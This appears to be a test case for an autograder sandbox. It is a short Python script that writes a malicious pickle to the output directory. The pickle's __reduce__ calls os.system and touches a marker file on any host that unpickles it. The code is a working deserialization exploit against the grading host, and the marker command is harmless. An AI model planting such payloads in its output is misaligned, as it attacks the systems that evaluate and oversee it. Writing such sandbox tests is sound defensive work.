# expect-reason: ok
# attack: leave a pickle in the output dir that runs a command if the host ever unpickles it.
import os
import pickle


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/autograder-pwned-by-pickle",))


out = os.environ.get("SANDBOX_OUT", "/sandbox/out")
with open(f"{out}/result.pickle", "wb") as handle:
    pickle.dump(Payload(), handle)


def gradient(out):
    return {"see": "result.pickle"}
